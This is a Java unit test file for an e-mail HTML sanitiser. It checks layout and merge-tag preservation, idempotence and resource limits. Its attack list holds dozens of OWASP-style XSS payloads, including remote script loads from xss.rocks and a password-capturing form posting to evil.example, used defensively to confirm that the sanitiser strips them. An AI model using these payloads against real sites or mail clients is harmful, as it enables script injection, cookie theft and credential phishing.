package io.neuromail.campaigns.internal.content;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.stream.Stream;

import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class HtmlSanitiserTest {

    private final HtmlSanitiser sanitiser = new HtmlSanitiser();

    /** Vectors of the OWASP XSS filter evasion cheat sheet, plus e-mail specific ones. */
    static Stream<String> attacks() {
        return Stream.of(
                "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
                "<IMG SRC=\"javascript:alert('XSS');\">",
                "<IMG SRC=JaVaScRiPt:alert('XSS')>",
                "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
                "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
                "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
                "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
                "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
                "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
                "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
                "<a href=\"&#106;avascript:alert(1)\">entity-encoded link</a>",
                "<a href=\"java&#0000115cript:alert(1)\">padded entity link</a>",
                "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
                "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
                "<IMG SRC=# onmouseover=\"alert('xxs')\">",
                "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
                "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
                "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
                "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
                "<svg/onload=alert('XSS')>",
                "<svg><script>alert(1)</script></svg>",
                "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
                "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><tr><td>x</td></tr></TABLE>",
                "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">x</TD></TABLE>",
                "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
                "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">x</DIV>",
                "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
                "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
                "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
                "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
                "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
                "<STYLE type=\"text/css\">BODY{background:url(\"javascript:alert('XSS')\")}</STYLE>",
                "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
                "<STYLE>p { width: expression(alert(1)) }</STYLE><p>x</p>",
                "<style>td[title=\"</style><script>alert(1)</script>\"] { color: red }</style>",
                "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
                "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
                "<html><head><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\"></head><body>x</body></html>",
                "<html><head><BASE HREF=\"javascript:alert('XSS');//\"></head><body><a href=\"x\">x</a></body></html>",
                "<html><head><LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\"></head><body>x</body></html>",
                "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
                "<iframe src=\"https://evil.example/\"></iframe>",
                "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
                "<html><frameset><frame src=\"javascript:alert('XSS');\"></frameset></html>",
                "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
                "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+\" type=\"image/svg+xml\">",
                "<form action=\"https://evil.example/\"><input type=\"password\" name=\"p\"><button>Log in</button></form>",
                "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
                "<IMG DYNSRC=\"javascript:alert('XSS')\">",
                "<a href=\"vbscript:msgbox(1)\">vb</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data link</a>",
                "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
                "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
                "<a href=\"{{unsubscribe_url}}\" onclick=\"alert(1)\">merge tag with a handler</a>",
                "<p>{{ x<script>alert(1)</script> }}</p>",
                "<p>{% if a <img src=x onerror=alert(1)> %}x{% endif %}</p>");
    }

    private static final Set<String> URL_ATTRIBUTES = Set.of("href", "src", "background", "action", "formaction",
            "data", "dynsrc", "lowsrc", "xlink:href", "cite", "poster");

    @ParameterizedTest
    @MethodSource("attacks")
    void everyAttackIsRemovedAndReported(String attack) {
        HtmlSanitiser.Result result = sanitiser.sanitise(attack);
        String lower = result.html().toLowerCase(Locale.ROOT);
        for (String banned : List.of("javascript", "vbscript", "expression", "@import", "-moz-binding", "refresh",
                "<script", "<iframe", "<frame", "<object", "<embed", "<svg", "<form", "<input", "<base", "<link",
                "data:text", "data:image/svg")) {
            assertFalse(lower.contains(banned), () -> banned + " in " + result.html());
        }
        Document doc = Jsoup.parse(result.html());
        for (Element element : doc.getAllElements()) {
            for (Attribute attribute : element.attributes()) {
                String name = attribute.getKey().toLowerCase(Locale.ROOT);
                assertFalse(name.startsWith("on"), () -> "event handler kept: " + result.html());
                if (URL_ATTRIBUTES.contains(name)) {
                    String value = attribute.getValue().trim().toLowerCase(Locale.ROOT);
                    assertTrue(value.startsWith("https://") || value.startsWith("http://") || value.startsWith("mailto:")
                            || value.startsWith("{{"), () -> "unsafe address kept: " + result.html());
                }
            }
        }
        assertFalse(result.notes().isEmpty(), () -> "nothing reported for " + attack + " -> " + result.html());
    }

    @Test
    void notesSayWhatWasRemovedInPlainLanguage() {
        HtmlSanitiser.Result result = sanitiser.sanitise("<p onclick=\"x()\">Hi</p><script>x()</script><script>y()</script>");
        assertEquals("<p>Hi</p>", result.html());
        assertEquals(List.of("removed an onclick attribute from <p>", "removed a <script> element (2 times)"), result.notes());
    }

    @Test
    void mergeTagsSurviveInTextAttributesAndLinks() {
        String html = "<p>Hi {{ first_name | default: \"there\" }}, {% if vip %}<b>thanks</b>{% else %}welcome{% endif %}</p>"
                + "<a href=\"{{unsubscribe_url}}\">Unsubscribe</a> <a href=\"{{webview_url}}\">View</a>"
                + "<a href=\"https://example.com/?name={{ first_name | url_encode }}\">Go</a>"
                + "<a href='{{ webview_url | append: \"?src=mail\" }}'>Web</a>"
                + "<img src=\"{{ logo_url }}\" alt=\"{{account_name}}\">"
                + "<p>{{account_name}} &middot; {{postal_address}}</p>"
                + "<p>{% for item in items %}{{ item.name }}{% endfor %} {% if a < b %}less{% endif %}</p>";
        HtmlSanitiser.Result result = sanitiser.sanitise(html);
        String out = result.html();
        assertTrue(out.contains("Hi {{ first_name | default: \"there\" }}, {% if vip %}<b>thanks</b>{% else %}welcome{% endif %}"), out);
        assertTrue(out.contains("<a href=\"{{unsubscribe_url}}\">Unsubscribe</a>"), out);
        assertTrue(out.contains("<a href=\"{{webview_url}}\">View</a>"), out);
        assertTrue(out.contains("{{ first_name | url_encode }}"), out);
        assertTrue(out.contains("href=\"{{ webview_url | append: '?src=mail' }}\""), out);
        assertTrue(out.contains("src=\"{{ logo_url }}\""), out);
        assertTrue(out.contains("alt=\"{{account_name}}\""), out);
        assertTrue(out.contains("{{account_name}}"), out);
        assertTrue(out.contains("{{postal_address}}"), out);
        assertTrue(out.contains("{% for item in items %}{{ item.name }}{% endfor %} {% if a < b %}less{% endif %}"), out);
        assertEquals(List.of(), result.notes());
    }

    @Test
    void aMergeTagThatCannotStayIsReported() {
        HtmlSanitiser.Result result = sanitiser.sanitise("<p {{ attrs }}>x</p>");
        assertFalse(result.html().contains("attrs"), result.html());
        assertTrue(result.notes().stream().anyMatch(n -> n.contains("{{ attrs }}")), result.notes().toString());
    }

    @Test
    void keepsWhatEmailNeeds() {
        String html = "<!DOCTYPE html><html lang=\"de\"><head><meta charset=\"utf-8\">"
                + "<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\"><title>News &amp; more</title>"
                + "<style>.btn { color: #ffffff !important; } @media only screen and (max-width: 600px) { .container { width: 100% !important; } }</style>"
                + "</head><body bgcolor=\"#eeeeee\" style=\"margin:0\">"
                + "<table role=\"presentation\" width=\"600\" align=\"center\" cellpadding=\"0\" cellspacing=\"0\" border=\"0\" bgcolor=\"#ffffff\">"
                + "<tr><td valign=\"top\" style=\"padding:20px;font-size:16px\"><img src=\"https://example.com/a.png\" alt=\"Logo\" width=\"120\">"
                + "<a href=\"mailto:hello@example.com\">Mail</a> <a href=\"tel:+15550100\">Call</a> <a href=\"https://example.com\">Web</a>"
                + "<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"dot\"></td></tr></table></body></html>";
        HtmlSanitiser.Result result = sanitiser.sanitise(html);
        Document doc = Jsoup.parse(result.html());
        assertEquals("de", doc.selectFirst("html").attr("lang"));
        assertEquals("News & more", doc.title());
        assertEquals("width=device-width, initial-scale=1", doc.selectFirst("meta[name=viewport]").attr("content"));
        String css = doc.selectFirst("head style").data();
        assertTrue(css.contains("@media only screen and (max-width: 600px)"), css);
        assertTrue(css.contains(".container { width: 100% !important; }"), css);
        assertTrue(css.contains(".btn { color: rgb(255, 255, 255) !important; }"), css);
        assertEquals("#eeeeee", doc.body().attr("bgcolor"));
        Element table = doc.selectFirst("table");
        for (String attribute : List.of("role", "width", "align", "cellpadding", "cellspacing", "border", "bgcolor")) {
            assertTrue(table.hasAttr(attribute), attribute);
        }
        assertEquals("top", doc.selectFirst("td").attr("valign"));
        assertEquals("padding:20px;font-size:16px", doc.selectFirst("td").attr("style"));
        assertEquals(2, doc.select("img").size());
        assertEquals(List.of("mailto:hello@example.com", "tel:+15550100", "https://example.com"), doc.select("a").eachAttr("href"));
        assertEquals(List.of(), result.notes());
    }

    @Test
    void aLinkKeepsTheMarkThatLeavesItUntrackedButNotItsValue() {
        HtmlSanitiser.Result result = sanitiser.sanitise("<p><a href=\"https://example.com/private\" data-notrack>"
                + "Private</a> <a href=\"https://example.com/x\" data-notrack=\"<b>anything</b>\">X</a>"
                + " <span data-notrack>not a link</span></p>");
        Document doc = Jsoup.parse(result.html());
        assertEquals(2, doc.select("a[data-notrack]").size(), result.html());
        assertEquals(List.of("", ""), doc.select("a").eachAttr("data-notrack"));
        assertFalse(doc.selectFirst("span").hasAttr("data-notrack"), result.html());
        assertEquals(result.html(), sanitiser.sanitise(result.html()).html());
    }

    @Test
    void emailClientPropertiesAreKeptAndPositioningIsNot() {
        HtmlSanitiser.Result result = sanitiser.sanitise("<table style=\"mso-table-lspace: 0pt; mso-table-rspace: 0pt; -webkit-text-size-adjust: 100%;"
                + " box-sizing: border-box; display: block; position: fixed; top: 0; z-index: 9\"><tr>"
                + "<td style=\"mso-line-height-rule: exactly; word-break: break-word\">x</td></tr></table>"
                + "<style>p { -ms-text-size-adjust: 100%; position: absolute }</style>");
        Document doc = Jsoup.parse(result.html());
        assertEquals("mso-table-lspace:0pt;mso-table-rspace:0pt;-webkit-text-size-adjust:100%;box-sizing:border-box;display:block",
                doc.selectFirst("table").attr("style"));
        assertEquals("mso-line-height-rule:exactly;word-break:break-word", doc.selectFirst("td").attr("style"));
        assertEquals("p { -ms-text-size-adjust: 100%; }", doc.selectFirst("style").data().strip());
        assertTrue(result.notes().contains("removed the CSS property position"), result.notes().toString());
        assertTrue(result.notes().contains("removed the CSS property position from a style attribute"), result.notes().toString());
    }

    @Test
    void aFragmentStaysAFragment() {
        HtmlSanitiser.Result result = sanitiser.sanitise("<p style=\"color: red\">Hello</p>");
        assertEquals("<p style=\"color:red\">Hello</p>", result.html());
    }

    @Test
    void sanitisingTwiceChangesNothingMore() {
        for (BuiltInTemplates.Template template : new BuiltInTemplates().list()) {
            String once = sanitiser.sanitise(template.html()).html();
            HtmlSanitiser.Result twice = sanitiser.sanitise(once);
            assertEquals(once, twice.html(), template.id());
            assertEquals(List.of(), twice.notes(), template.id());
        }
    }

    @Test
    void savingAgainAddsNoNotes() {
        String once = sanitiser.sanitise("<a href=\"https://example.com\" target=\"_blank\">x</a><p>{{ a | default: \"b\" }}</p>").html();
        HtmlSanitiser.Result twice = sanitiser.sanitise(once);
        assertEquals(once, twice.html());
        assertEquals(List.of(), twice.notes());
        for (CorpusSample.Newsletter newsletter : CorpusSample.newsletters()) {
            String first = sanitiser.sanitise(newsletter.html()).html();
            HtmlSanitiser.Result second = sanitiser.sanitise(first);
            assertEquals(List.of(), second.notes(), newsletter.name());
        }
    }

    @Test
    void realNewslettersKeepTheirLayout() {
        List<CorpusSample.Newsletter> newsletters = CorpusSample.newsletters();
        assertTrue(newsletters.size() >= 15, "newsletters with an HTML part: " + newsletters.size());
        List<String> lost = new ArrayList<>();
        for (CorpusSample.Newsletter newsletter : newsletters) {
            Document before = Jsoup.parse(newsletter.html());
            Document after = Jsoup.parse(sanitiser.sanitise(newsletter.html()).html());
            for (String query : List.of("table", "td", "img[src~=^(?i)https?://]", "a[href~=^(?i)(https?|mailto):]", "font[color]", "td[bgcolor]")) {
                int was = before.select(query).size();
                int is = after.select(query).size();
                if (was != is) {
                    lost.add(newsletter + " " + query + " " + was + " -> " + is);
                }
            }
            int styledBefore = before.select("body [style]").size();
            int styledAfter = after.select("body [style]").size();
            if (styledAfter < styledBefore - 1) {
                lost.add(newsletter + " inline styles " + styledBefore + " -> " + styledAfter);
            }
            assertEquals(before.body().text().length() > 0, after.body().text().length() > 0, newsletter.name());
        }
        assertEquals(List.of(), lost);
    }

    @Test
    void refusesMoreThanTheCeiling() {
        String tooLong = "a".repeat(HtmlSanitiser.MAX_LENGTH + 1);
        IllegalArgumentException e = assertThrows(IllegalArgumentException.class, () -> sanitiser.sanitise(tooLong));
        assertTrue(e.getMessage().contains("too large"), e.getMessage());
        assertEquals("a".repeat(10), sanitiser.sanitise("a".repeat(10)).html());
    }

    @Test
    void deepNestingAndHugeStyleSheetsAreRefusedBeforeParsing() {
        StringBuilder nested = new StringBuilder();
        while (nested.length() < HtmlSanitiser.MAX_LENGTH - 20) {
            nested.append("<div><table><tr><td>");
        }
        IllegalArgumentException deep = assertThrows(IllegalArgumentException.class, () -> sanitiser.sanitise(nested.toString()));
        assertTrue(deep.getMessage().contains("nested too deeply"), deep.getMessage());
        assertThrows(IllegalArgumentException.class, () -> new HtmlToText().toText(nested.toString()));
        assertThrows(IllegalArgumentException.class, () -> new CssInliner().inline(nested.toString()));

        StringBuilder css = new StringBuilder("<style>");
        while (css.length() < HtmlSanitiser.MAX_STYLE_LENGTH + 100) {
            css.append("a{color:red;width:calc((((1px))))}");
        }
        css.append("</style><p>x</p>");
        IllegalArgumentException large = assertThrows(IllegalArgumentException.class, () -> sanitiser.sanitise(css.toString()));
        assertTrue(large.getMessage().contains("style blocks are too large"), large.getMessage());
        assertThrows(IllegalArgumentException.class, () -> new CssInliner().inline(css.toString()));
    }

    @Test
    void adversarialInputAtTheCeilingIsHandled() {
        StringBuilder attributes = new StringBuilder("<p ");
        while (attributes.length() < HtmlSanitiser.MAX_LENGTH - 20) {
            attributes.append("onclick=x title=\"{{ a }}\" ");
        }
        attributes.append(">x</p>");
        StringBuilder wide = new StringBuilder("<table>");
        while (wide.length() < HtmlSanitiser.MAX_LENGTH - 100) {
            wide.append("<tr><td onclick=x style=\"color:red\"><a href=\"javascript:x\">y</a></td></tr>");
        }
        wide.append("</table>");
        String brackets = "<style>" + "(".repeat(HtmlSanitiser.MAX_STYLE_LENGTH - 20) + "</style><p>x</p>";
        String almostTooDeep = "<div>".repeat(HtmlSanitiser.MAX_DEPTH - 1) + "x";
        // The ceiling only makes a regression fail instead of hang; each input takes about a second or less.
        for (String input : List.of(attributes.toString(), wide.toString(), brackets, almostTooDeep)) {
            assertTrue(input.length() <= HtmlSanitiser.MAX_LENGTH);
            HtmlSanitiser.Result result = assertTimeoutPreemptively(Duration.ofSeconds(20), () -> sanitiser.sanitise(input));
            assertFalse(result.html().contains("onclick"));
            assertFalse(result.html().contains("javascript"));
            assertTimeoutPreemptively(Duration.ofSeconds(20), () -> new HtmlToText().toText(input));
            assertTimeoutPreemptively(Duration.ofSeconds(20), () -> new CssInliner().inline(input));
        }
    }
}
